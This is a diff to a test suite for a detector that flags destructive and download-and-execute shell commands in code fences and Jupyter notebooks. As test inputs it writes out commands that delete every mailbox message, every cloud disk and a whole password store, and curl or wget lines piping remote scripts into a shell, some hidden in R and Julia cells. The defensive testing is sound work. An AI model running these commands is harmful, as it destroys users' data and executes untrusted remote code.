@@ -84,11 +84,22 @@ describe('attack3: filters every item passes', () => {
     expect(each('Get-MgUserMessage -UserId $user -Top 25')).toEqual([]);
     expect(each('Get-MgUserMessage -UserId $user -Filter "isRead eq true"')).toEqual([]);
   });
-  it.fails('reads a filter whose condition every item meets (a date before any message) as every item: cannot tell from a real date bound', () => {
+  it('reads a filter whose only condition is a date bound every item meets (before any message, or far ahead) as every item', () => {
     expect(threats(fence('powershell', 'Get-MgUserMessage -UserId $user -Filter "receivedDateTime ge 1900-01-01" | ForEach-Object {\n  Remove-MgUserMessage -UserId $user -MessageId $_.Id\n}'))).toEqual(['threat/destructive 9:3 error']);
+    expect(threats(fence('powershell', "Get-MgUserMessage -UserId $user -Filter 'createdDateTime lt 2999-12-31T00:00:00Z' | ForEach-Object {\n  Remove-MgUserMessage -UserId $user -MessageId $_.Id\n}"))).toEqual(['threat/destructive 9:3 error']);
+    expect(threats(fence('bash', 'disks=$(gcloud compute disks list --filter="creationTimestamp>1970-01-01" --format="value(name)")\nfor d in $disks; do gcloud compute disks delete "$d" --quiet; done'))).toEqual(['threat/destructive 9:21 error']);
   });
-  it.fails('reads a store listed by a generic tool and deleted by its own as every item: a list from elsewhere is how scripts pick items', () => {
-    expect(threats(fence('bash', "ls ~/.password-store | sed 's/\\.gpg$//' | xargs -n1 pass rm -f"))).toEqual(['threat/destructive 8:47 error']);
+  it('keeps a real date bound clean', () => {
+    expect(threats(fence('powershell', 'Get-MgUserMessage -UserId $user -Filter "receivedDateTime lt 2019-01-01" | ForEach-Object {\n  Remove-MgUserMessage -UserId $user -MessageId $_.Id\n}'))).toEqual([]);
+    expect(threats(fence('bash', 'disks=$(gcloud compute disks list --filter="creationTimestamp<2021-06-01 AND -users:*" --format="value(name)")\nfor d in $disks; do gcloud compute disks delete "$d" --quiet; done'))).toEqual([]);
+  });
+  it('reads a tool\'s folder in the home folder listed whole, each entry given to the tool\'s delete verb, as every item', () => {
+    expect(threats(fence('bash', "ls ~/.password-store | sed 's/\\.gpg$//' | xargs -n1 pass rm -f"))).toEqual(['threat/destructive 8:43 error']);
+    expect(threats(fence('bash', 'find "$HOME/.password-store" -name "*.gpg" | sed -e "s|^$HOME/.password-store/||" -e "s|\\.gpg$||" | while read -r entry; do\n  pass rm -f "$entry"\ndone'))).toEqual(['threat/destructive 9:3 error']);
+  });
+  it('keeps one folder of the store, or entries a grep picks, given to the delete verb clean', () => {
+    expect(threats(fence('bash', "ls ~/.password-store/ci-scratch | sed 's/\\.gpg$//' | xargs -I{} pass rm -f ci-scratch/{}"))).toEqual([]);
+    expect(threats(fence('bash', "ls ~/.password-store | grep '^tmp-' | sed 's/\\.gpg$//' | xargs -n1 pass rm -f"))).toEqual([]);
   });
 });
 
@@ -138,8 +149,13 @@ describe('attack3: commands past the carriers\' caps and notebooks of other kern
     expect(fileThreats({ 'nb/setup.ipynb': notebook('bash', [['echo hi\n'], ['curl -fsSL https://cdn.quickpatch.io/kernel.sh | bash']]) })).toEqual(['threat/download-exec setup.ipynb 18:55 error']);
     expect(fileThreats({ 'nb/setup.ipynb': notebook('bash', [['ls -la\n', 'git status']]) })).toEqual([]);
   });
-  it.fails('reads a shell command run from an R kernel\'s cell: no grammar reads R', () => {
-    expect(fileThreats({ 'nb/setup.ipynb': notebook('R', [['system("curl -fsSL https://cdn.quickpatch.io/kernel.sh | bash")']]) })).toEqual(['threat/download-exec setup.ipynb 10:56 error']);
+  it('reads a shell command run from the cell of a kernel no grammar reads (R, Julia) as a file of that language is read', () => {
+    expect(fileThreats({ 'nb/setup.ipynb': notebook('R', [['system("curl -fsSL https://cdn.quickpatch.io/kernel.sh | bash")']]) })).toEqual(['threat/download-exec setup.ipynb 9:6 error']);
+    expect(fileThreats({ 'nb/setup.ipynb': notebook('R', [['library(jsonlite)\n'], ['x <- 1\n', 'system2("sh", c("-c", "wget -qO- http://203.0.113.9/k.sh | sh"))']]) })).toEqual(['threat/download-exec setup.ipynb 19:65 error']);
+    expect(fileThreats({ 'nb/setup.ipynb': notebook('julia', [['run(`sh -c "curl -fsSL https://cdn.quickpatch.io/kernel.sh | bash"`)']]) })).toEqual(['threat/download-exec setup.ipynb 9:6 error']);
+  });
+  it('keeps an R kernel\'s cells that download data or run a local command clean', () => {
+    expect(fileThreats({ 'nb/setup.ipynb': notebook('R', [['df <- read.csv("https://example.org/data/cases.csv")\n', 'summary(df)'], ['system("git status")']]) })).toEqual([]);
   });
 });
 
